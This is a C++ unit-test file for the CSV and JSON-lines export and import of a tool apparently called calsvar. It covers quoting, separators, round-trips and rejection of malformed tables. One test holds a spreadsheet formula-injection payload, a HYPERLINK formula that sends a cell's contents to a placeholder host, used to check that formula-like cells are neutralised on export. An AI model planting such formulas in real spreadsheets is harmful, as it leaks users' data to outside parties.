// The tables of "get --csv" and "set --from": what a spreadsheet or a
// script hands back must mean the same cells, and a table that cannot be
// used must be refused whole.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tools/calsvar/tables/csv_export.h"
#include "tools/calsvar/tables/csv_table.h"
#include "tools/calsvar/tables/import_table.h"

namespace {

using calsvar::CsvRow;
using calsvar::ParseCsv;
using calsvar::ReadImportTable;
using Cells = std::vector<std::u16string>;

TEST(CsvRow, QuotesOnlyCellsThatNeedItAndEndsInCrLf) {
  const struct {
    Cells cells;
    const char* row;
  } cases[] = {
      {{u"a.cal", u"DRW-1"}, "a.cal,DRW-1\r\n"},
      {{u"001654,002339", u""}, "\"001654,002339\",\r\n"},
      {{u"say \"hi\""}, "\"say \"\"hi\"\"\"\r\n"},
      {{u"two\r\nlines", u"lf\nonly"}, "\"two\r\nlines\",\"lf\nonly\"\r\n"},
      {{u"Zo\u00eb \u20ac"}, "Zo\xc3\xab \xe2\x82\xac\r\n"},
  };
  for (const auto& c : cases) EXPECT_EQ(CsvRow(c.cells), c.row);
}

TEST(CsvRead, ReadsWhatSpreadsheetsWrite) {
  const struct {
    const char16_t* text;
    std::vector<Cells> rows;
  } cases[] = {
      {u"a,b\r\n1,2\r\n", {{u"a", u"b"}, {u"1", u"2"}}},
      {u"a,b\n1,2", {{u"a", u"b"}, {u"1", u"2"}}},          // LF, no final line end
      {u"a,b\r1,2\r", {{u"a", u"b"}, {u"1", u"2"}}},        // CR alone
      {u"\"x,y\",\"q\"\"q\"\r\n", {{u"x,y", u"q\"q"}}},
      {u"\"line\r\nbreak\",z\n", {{u"line\r\nbreak", u"z"}}},
      {u"a,,\n", {{u"a", u"", u""}}},
      {u"a\n,,\n\n", {{u"a"}}},                             // rows of empty cells below a table
      {u"\"\"\n", {}},
  };
  for (const auto& c : cases) {
    const auto parse = ParseCsv(c.text);
    ASSERT_EQ(parse.error, "") << std::u16string(c.text).size();
    ASSERT_EQ(parse.records.size(), c.rows.size());
    for (std::size_t i = 0; i < c.rows.size(); ++i) EXPECT_EQ(parse.records[i].cells, c.rows[i]);
  }
  EXPECT_EQ(ParseCsv(u"h\n\"a\nb\"\nc\n").records.back().line, 4u);
}

TEST(CsvRead, NamesTheLineOfWhatIsNoCsv) {
  EXPECT_EQ(ParseCsv(u"a\n\"never closed\n").error, "line 2: a quoted cell is never closed");
  EXPECT_NE(ParseCsv(u"a\n\"x\"y,b\n").error.find("line 2: text follows the closing quote"), std::string::npos);
  EXPECT_NE(ParseCsv(u"a\nb\"c\n").error.find("line 2: a double quote inside"), std::string::npos);
}

TEST(CsvRoundTrip, CellsComeBackAsTheyWent) {
  const Cells cells{u"", u" blank ", u"a,b", u"\"", u"x\r\ny", u"\t", u"\u00e9\U0001F600"};
  const auto table = ReadImportTable(CsvRow({u"file", u"a", u"b", u"c", u"d", u"e", u"f", u"g"}) +
                                         CsvRow({u"x.cal", cells[0], cells[1], cells[2], cells[3], cells[4],
                                                 cells[5], cells[6]}),
                                     u"");
  ASSERT_EQ(table.rows.size(), 1u);
  ASSERT_EQ(table.rows[0].values.size(), 6u);  // the empty cell asks for nothing
  for (std::size_t i = 0; i < 6; ++i) EXPECT_EQ(table.rows[0].values[i].text, cells[i + 1]);
}

// What a spreadsheet would take for a formula is written as text, and
// comes back byte for byte.
TEST(CsvRoundTrip, FormulaCellsAreTextInASpreadsheetAndExactWhenReadBack) {
  const struct {
    const char16_t* value;
    const char* cell;  // as get --csv writes it, with its separator before it
  } cases[] = {
      {u"=HYPERLINK(\"http://x.example/?\"&B1,\"open\")", ",\"'=HYPERLINK(\"\"http://x.example/?\"\"&B1,\"\"open\"\")\""},
      {u"+1", ",'+1"},
      {u"-5", ",'-5"},
      {u"@SUM(A1)", ",'@SUM(A1)"},
      {u"\tx", ",'\tx"},
      {u"\rx", ",\"'\rx\""},
      {u"'quoted'", ",''quoted'"},
      {u"''", ",'''"},
      {u"a=b-c", ",a=b-c"},
      {u" =x", ", =x"},
  };
  for (const auto& c : cases) {
    const std::string row = CsvRow({u"x.cal", c.value});
    EXPECT_EQ(row, std::string("x.cal") + c.cell + "\r\n");
    const auto table = ReadImportTable("file,notes\r\n" + row, u"");
    ASSERT_EQ(table.rows.size(), 1u) << table.error;
    ASSERT_EQ(table.rows[0].values.size(), 1u);
    EXPECT_EQ(table.rows[0].values[0].text, c.value);
  }
}

// Spreadsheets in German or French locales separate cells by ";", and
// tab-separated text by tabs: the header line tells which.
TEST(ImportTable, TakesTheSeparatorThatGivesAFileColumn) {
  const struct {
    const char* bytes;
    char16_t separator;
    const char16_t* notes;
  } cases[] = {
      {"file,notes\r\na.cal,\"x;y\"\r\n", u',', u"x;y"},
      {"file;notes\r\na.cal;x,y\r\n", u';', u"x,y"},
      {"\"file\";\"notes\"\r\n\"a.cal\";\"x;y\"\r\n", u';', u"x;y"},  // every cell quoted
      {"File\tNotes\na.cal\t'=1;2\n", u'\t', u"=1;2"},
      {"notes;file\r\n\"a,b\";a.cal\r\n", u';', u"a,b"},
  };
  for (const auto& c : cases) {
    const auto table = ReadImportTable(c.bytes, u"");
    ASSERT_EQ(table.error, "") << c.bytes;
    EXPECT_EQ(table.separator, c.separator) << c.bytes;
    ASSERT_EQ(table.rows.size(), 1u);
    EXPECT_EQ(table.rows[0].file, u"a.cal");
    ASSERT_EQ(table.rows[0].values.size(), 1u);
    EXPECT_EQ(table.rows[0].values[0].text, c.notes);
  }
  EXPECT_EQ(CsvRow({u"a;b", u"c,d", u"=e"}, u';'), "\"a;b\";c,d;'=e\r\n");
  EXPECT_EQ(ReadImportTable("name;notes\r\n", u"").error, "line 1: the table has no \"file\" column");
}

TEST(CsvExport, OneColumnPerNameInOrderOfFirstAppearance) {
  calsvar::CsvExport table;
  table.Add(u"/d/a.cal", {{u"srcdocid", u"A"}, {u"notes", u"-x"}});
  table.Add(u"/d/picture.cal", {});
  table.Add(u"/d/b.cal", {{u"notes", u"n"}, {u"rtype", u"1"}});
  EXPECT_EQ(table.Text({}, u';'),
            "file;srcdocid;notes;rtype\r\n/d/a.cal;A;'-x;\r\n/d/picture.cal;;;\r\n/d/b.cal;;n;1\r\n");
  EXPECT_EQ(table.Text({u"rtype"}, u','), "file,rtype\r\n/d/a.cal,\r\n/d/picture.cal,\r\n/d/b.cal,1\r\n");
}

TEST(ImportTable, TakesCsvAsGetWritesItWithEmptyCellsLeftAlone) {
  const auto table = ReadImportTable(
      "\xEF\xBB\xBF" "file,srcdocid,notes\r\nsub/a.cal,A-1,\r\n/abs/b.cal,,\"two\nlines\"\r\nC:\\c.cal,C,x\r\n",
      u"tables/");
  ASSERT_EQ(table.error, "");
  ASSERT_EQ(table.rows.size(), 3u);
  EXPECT_EQ(table.rows[0].file, u"tables/sub/a.cal");
  ASSERT_EQ(table.rows[0].values.size(), 1u);
  EXPECT_EQ(table.rows[0].values[0].name, u"srcdocid");
  EXPECT_EQ(table.rows[1].file, u"/abs/b.cal");
  EXPECT_EQ(table.rows[1].values[0].text, u"two\nlines");
  EXPECT_EQ(table.rows[2].file, u"C:\\c.cal");
  EXPECT_EQ(table.rows[2].line, 5u);  // the cell before spans lines 3 and 4
}

TEST(ImportTable, TakesJsonLinesAsGetWritesThem) {
  const auto table = ReadImportTable(
      "{\"file\": \"a.cal\", \"variables\": [{\"name\": \"notes\", \"found\": true, \"value\": \"\"}, "
      "{\"name\": \"nosuch\", \"found\": false, \"value\": null}, {\"name\": \"srcdocid\", \"found\": true, "
      "\"value\": \"Zo\\u00eb \\\"q\\\"\"}]}\r\n\n"
      "{\"file\": \"b.cal\", \"error\": {\"code\": \"0x80040228\", \"message\": \"cannot be loaded\"}}\n",
      u"");
  ASSERT_EQ(table.error, "");
  ASSERT_EQ(table.rows.size(), 2u);
  ASSERT_EQ(table.rows[0].values.size(), 2u);
  EXPECT_EQ(table.rows[0].values[0].text, u"");  // "" empties the variable
  EXPECT_EQ(table.rows[0].values[1].text, u"Zo\u00eb \"q\"");
  EXPECT_TRUE(table.rows[1].values.empty());
  EXPECT_EQ(table.rows[1].line, 3u);
}

TEST(ImportTable, RefusesWholeWhatCannotBeUsed) {
  const struct {
    const char* bytes;
    const char* error;
  } cases[] = {
      {"", "the table is empty"},
      {"file,notes\r\na.cal,caf\xE9\r\n", "line 2: the table is not UTF-8 text"},
      {"name,notes\r\na.cal,x\r\n", "line 1: the table has no \"file\" column"},
      {"file,notes,NOTES\r\n", "line 1: the column \"NOTES\" is named twice"},
      {"file,,x\r\n", "line 1: column 2 has no name"},
      {"file,notes\r\na.cal,x,y\r\n", "line 2: 3 cells in a table of 2 columns"},
      {"file,notes\r\n,x\r\n", "line 2: the \"file\" cell is empty"},
      {"file\r\nd/a.cal\r\nD\\.\\x\\..\\A.CAL\r\n", "line 3: \"D\\.\\x\\..\\A.CAL\" is named twice (also on line 2)"},
      {"{\"file\": \"a.cal\"}\n{\"file\": \"./a.cal\"}\n", "line 2: \"./a.cal\" is named twice"},
      {"{\"file\": \"a.cal\"\n", "line 1: character 17: \",\" or \"}\" is expected"},
      {"{\"variables\": []}\n", "line 1: the object has no \"file\""},
      {"{\"file\": \"a\", \"variables\": [{\"name\": \"x\", \"value\": 5}]}", "must be a string or null"},
      {"{\"file\": \"a\", \"variables\": [{\"name\": \"x\", \"value\": \"1\"}, {\"name\": \"X\", \"value\": \"2\"}]}",
       "the variable \"X\" is named twice"},
  };
  for (const auto& c : cases) {
    const auto table = ReadImportTable(c.bytes, u"");
    EXPECT_NE(table.error.find(c.error), std::string::npos) << c.bytes << " gave: " << table.error;
    EXPECT_TRUE(table.rows.empty()) << c.bytes;
  }
}

}  // namespace
